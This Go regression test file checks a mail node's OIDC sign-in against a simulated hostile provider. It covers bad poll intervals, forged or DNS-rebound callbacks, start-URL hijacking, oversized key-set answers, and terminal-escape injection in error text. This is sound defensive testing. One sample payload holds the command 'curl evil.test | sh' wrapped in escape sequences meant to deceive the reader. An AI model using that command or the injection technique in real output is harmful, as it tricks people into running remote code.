package signin_test

// Regression tests for the outside attack on issue 45 (its report's
// findings F1 to F5): a provider, or anyone reaching the loopback
// listener, that answers with what the node must survive or refuse.

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"mailnode/mail/oidctest"
	"mailnode/mail/signin"
)

// fakeOP is a hostile provider on loopback HTTPS: each endpoint's answer
// is the test's.
type fakeOP struct {
	srv                 *httptest.Server
	device, token, jwks http.HandlerFunc
}

func newFakeOP(t *testing.T) *fakeOP {
	f := &fakeOP{}
	mux := http.NewServeMux()
	mux.HandleFunc("/device", func(w http.ResponseWriter, r *http.Request) { f.device(w, r) })
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) { f.token(w, r) })
	mux.HandleFunc("/jwks", func(w http.ResponseWriter, r *http.Request) { f.jwks(w, r) })
	f.srv = httptest.NewTLSServer(mux)
	t.Cleanup(f.srv.Close)
	return f
}

func (f *fakeOP) provider() signin.Provider {
	u := f.srv.URL
	return signin.Provider{ID: u, Name: "Evil", Issuer: u, AuthURL: u + "/auth", TokenURL: u + "/token",
		DeviceAuthURL: u + "/device", JWKSURL: u + "/jwks", Scopes: []string{"openid", "email"},
		Client: signin.Client{ID: "mailnode"}}
}

func (f *fakeOP) opts() signin.Options { return signin.Options{HTTPClient: f.srv.Client()} }

// TestDeviceInterval (F1): a device answer's interval of -1, or one so
// large that it overflows time.Duration, panicked in x/oauth2's
// time.NewTicker. Now the node polls at 5 s for a non-positive interval
// and at most every 60 s, and the expiry is bounded.
func TestDeviceInterval(t *testing.T) {
	now := time.Now()
	for _, tc := range []struct {
		interval     int64
		expiry       time.Time
		wantInterval int64
		wantExpiry   time.Time
	}{
		{-1, time.Time{}, 5, time.Time{}},
		{0, now.Add(time.Minute), 5, now.Add(time.Minute)},
		{7, now.Add(15 * time.Minute), 7, now.Add(15 * time.Minute)},
		{10000000000, now.Add(1e6 * time.Hour), 60, now.Add(30 * time.Minute)},
		{-9223372036854775808, now.Add(-time.Hour), 5, now.Add(30 * time.Minute)},
	} {
		da := &oauth2.DeviceAuthResponse{Interval: tc.interval, Expiry: tc.expiry}
		signin.ClampDevice(da, now)
		if da.Interval != tc.wantInterval || !da.Expiry.Equal(tc.wantExpiry) {
			t.Errorf("clamp(%d, %v) = %d, %v; want %d, %v", tc.interval, tc.expiry, da.Interval, da.Expiry, tc.wantInterval, tc.wantExpiry)
		}
	}

	// End to end, against a provider answering so: no panic; -1 polls
	// after the default 5 s, the huge interval waits (here, until ctx
	// ends).
	for _, tc := range []struct {
		interval string
		polled   bool
	}{{"-1", true}, {"10000000000", false}} {
		t.Run(tc.interval, func(t *testing.T) {
			t.Parallel()
			f := newFakeOP(t)
			f.device = func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				io.WriteString(w, `{"device_code":"d","user_code":"U","verification_uri":"https://x.test","expires_in":600,"interval":`+tc.interval+`}`)
			}
			var polls atomic.Int32
			f.token = func(w http.ResponseWriter, r *http.Request) {
				polls.Add(1)
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusBadRequest)
				io.WriteString(w, `{"error":"access_denied"}`)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 7*time.Second)
			defer cancel()
			defer func() {
				if p := recover(); p != nil {
					t.Fatalf("Device() panicked: %v", p)
				}
			}()
			_, err := signin.Device(ctx, f.provider(), func(signin.DeviceCode) error { return nil }, f.opts())
			var pe *signin.ProviderError
			if tc.polled && (!errors.As(err, &pe) || pe.Code != "access_denied" || polls.Load() != 1) {
				t.Errorf("Device() = %v after %d polls, want access_denied after one", err, polls.Load())
			}
			if !tc.polled && (!errors.Is(err, context.DeadlineExceeded) || polls.Load() != 0) {
				t.Errorf("Device() = %v after %d polls, want the deadline and none", err, polls.Load())
			}
		})
	}
}

// answerCallback is an open func that plays a browser the provider sent
// straight back with code "c".
func answerCallback(startURL string) error {
	u, err := authURL(startURL)
	if err != nil {
		return err
	}
	q := u.Query()
	go func() {
		resp, err := http.Get(q.Get("redirect_uri") + "?code=c&state=" + url.QueryEscape(q.Get("state")))
		if err == nil {
			resp.Body.Close()
		}
	}()
	return nil
}

// get is a GET with another Host header when host is set.
func get(t *testing.T, u, host string) int {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, u, nil)
	if host != "" {
		req.Host = host
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Errorf("GET %s: %v", u, err)
		return 0
	}
	resp.Body.Close()
	return resp.StatusCode
}

// TestStrayCallbacks (F2): a callback with another state (a web page
// sweeping loopback ports with no-cors GETs, a local user who read the
// port in /proc/net/tcp), or any request naming another Host (DNS
// rebinding), is refused with 400 and does not end the sign-in: the
// genuine callback that follows is taken and its code exchanged.
func TestStrayCallbacks(t *testing.T) {
	f := newFakeOP(t)
	var exchanged atomic.Bool
	f.token = func(w http.ResponseWriter, r *http.Request) {
		exchanged.Store(true)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":"invalid_grant"}`)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	open := func(startURL string) error {
		su, _ := url.Parse(startURL)
		// Another Host, even on the start address: refused, not counted.
		if st := get(t, startURL, "rebound.evil.test:"+su.Port()); st != http.StatusBadRequest {
			t.Errorf("the start address with another Host = %d, want 400", st)
		}
		u, err := authURL(startURL)
		if err != nil {
			return err
		}
		redirect := u.Query().Get("redirect_uri")
		state := url.QueryEscape(u.Query().Get("state"))
		go func() {
			for _, guess := range []string{"guess", "", state + "x"} {
				if st := get(t, redirect+"?code=evil&state="+guess, ""); st != http.StatusBadRequest {
					t.Errorf("callback with state %q = %d, want 400", guess, st)
				}
			}
			if st := get(t, redirect+"?code=c&state="+state, "localhost:"+su.Port()); st != http.StatusBadRequest {
				t.Errorf("the right callback with Host localhost = %d, want 400", st)
			}
			if st := get(t, redirect+"?code=c&state="+state, ""); st != http.StatusOK {
				t.Errorf("the genuine callback = %d, want 200", st)
			}
		}()
		return nil
	}
	_, err := signin.Browser(ctx, f.provider(), open, f.opts())
	if !errors.Is(err, signin.ErrSignInAgain) || !exchanged.Load() {
		t.Fatalf("Browser() = %v (exchanged %v), want the genuine callback's code exchanged", err, exchanged.Load())
	}
}

// TestStartTwice (F3): the address the node opens is in the browser's
// command line, which every local user reads. It holds no state: a local
// user who fetches it to sign the node in to his own account makes the
// person's browser the second to fetch it, and the sign-in ends with an
// error instead of taking his code; his callback is then refused.
func TestStartTwice(t *testing.T) {
	op := oidctest.Start(t, oidctest.Options{})
	p := provider(t, op, oidctest.ClientID)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	const attacker = "mallory@evil.test"
	var (
		wg             sync.WaitGroup
		personStatus   int
		personBody     string
		attackerStatus int
		attackerErr    error
	)
	open := func(startURL string) error {
		// The attacker, polling /proc, reads the address and fetches it
		// first.
		u, err := authURL(startURL)
		if err != nil {
			return err
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			// The person's browser, a moment later.
			personStatus, personBody, _ = op.NewBrowser().SignIn(startURL, user)
			// The attacker signs in as himself with what he fetched.
			attackerStatus, _, attackerErr = op.NewBrowser().SignIn(u.String(), attacker)
		}()
		return nil
	}
	g, err := signin.Browser(ctx, p, open, signin.Options{HTTPClient: op.HTTPClient()})
	wg.Wait()
	if g != nil || err == nil || !strings.Contains(err.Error(), "opened twice") {
		t.Fatalf("Browser() = %+v, %v; want the sign-in ended, no grant", g, err)
	}
	if personStatus != http.StatusConflict || !strings.Contains(personBody, "opened twice") {
		t.Errorf("the person's browser got %d %.200q, want the 409 page saying why", personStatus, personBody)
	}
	if attackerErr == nil && attackerStatus != http.StatusGone {
		t.Errorf("the attacker's callback got %d, want 410 or no listener", attackerStatus)
	}
}

func fakeJWT(iss, aud string) string {
	enc := base64.RawURLEncoding.EncodeToString
	h, _ := json.Marshal(map[string]any{"alg": "RS256", "kid": "k"})
	p, _ := json.Marshal(map[string]any{"iss": iss, "aud": aud, "sub": "x", "email": "a@b.test", "nonce": "n",
		"exp": time.Now().Add(time.Hour).Unix(), "iat": time.Now().Unix()})
	return enc(h) + "." + enc(p) + "." + enc([]byte("sig"))
}

// huge streams 512 MB of JSON-ish spaces and counts what it wrote.
func huge(written *atomic.Int64) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"keys":[`)
		chunk := []byte(strings.Repeat(" ", 1<<20))
		for range 512 {
			n, err := w.Write(chunk)
			written.Add(int64(n))
			if err != nil {
				return
			}
		}
		io.WriteString(w, `]}`)
	}
}

// TestHugeAnswers (F4): go-oidc reads the JWKS and discovery answers
// with io.ReadAll; a provider streaming 512 MB made the node hold it all
// (1.2 GB of heap). The node's client ends each answer at 1 MB.
func TestHugeAnswers(t *testing.T) {
	t.Run("jwks", func(t *testing.T) {
		f := newFakeOP(t)
		p := f.provider()
		f.token = func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"access_token": "a", "token_type": "Bearer", "expires_in": 3600,
				"refresh_token": "r", "id_token": fakeJWT(p.Issuer, p.Client.ID)})
		}
		var written atomic.Int64
		f.jwks = huge(&written)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_, err := signin.Browser(ctx, p, answerCallback, f.opts())
		if err == nil || !strings.Contains(err.Error(), "larger than 1 MB") {
			t.Errorf("Browser() = %.300v, want the key set refused for its size", err)
		}
		if w := written.Load(); w > 64<<20 {
			t.Errorf("the provider wrote %d MB before the node stopped reading", w>>20)
		}
	})
	t.Run("discovery", func(t *testing.T) {
		var written atomic.Int64
		srv := httptest.NewTLSServer(huge(&written))
		t.Cleanup(srv.Close)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_, err := signin.Discover(ctx, srv.Client(), srv.URL, signin.Client{ID: "x"}, nil)
		if err == nil || !strings.Contains(err.Error(), "larger than 1 MB") {
			t.Errorf("Discover() = %.300v, want the document refused for its size", err)
		}
		if w := written.Load(); w > 64<<20 {
			t.Errorf("the issuer wrote %d MB before the node stopped reading", w>>20)
		}
	})
}

// TestTokenErrorBody (F5): a token endpoint's error without an OAuth
// error code (a 5xx, a proxy's page) was put whole in the error the
// person reads, terminal escape sequences and all, up to 1 MB. Now it is
// told by status and content type; an OAuth error's description keeps
// no C0 or C1 control and no bidi control.
func TestTokenErrorBody(t *testing.T) {
	f := newFakeOP(t)
	f.token = func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusBadGateway)
		io.WriteString(w, "\x1b]0;pwned\x07\x1b[2J\x1b[31mYour account is locked: run curl evil.test | sh\x1b[0m\r\n")
		io.WriteString(w, strings.Repeat("A", 900<<10))
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := signin.Browser(ctx, f.provider(), answerCallback, f.opts())
	if err == nil {
		t.Fatal("Browser() succeeded")
	}
	msg := err.Error()
	if len(msg) > 300 || strings.ContainsAny(msg, "\x1b\x07\r\n") || strings.Contains(msg, "locked") ||
		!strings.Contains(msg, "502 Bad Gateway") || !strings.Contains(msg, "text/html") {
		t.Errorf("error = %.400q (%d bytes), want the status and content type only", msg, len(msg))
	}

	f.token = func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":"invalid_grant\u009b2J","error_description":"a\u001b[31mb\u009b31mc\u202ed\u2066e\u200bf\u0085g\nh\u00e9"}`)
	}
	_, err = signin.Browser(ctx, f.provider(), answerCallback, f.opts())
	var pe *signin.ProviderError
	if !errors.As(err, &pe) || pe.Code != "invalid_grant2J" || pe.Description != "a[31mb31mcdefgh\u00e9" {
		t.Errorf("Browser() = %q, want the description without controls", err)
	}
}
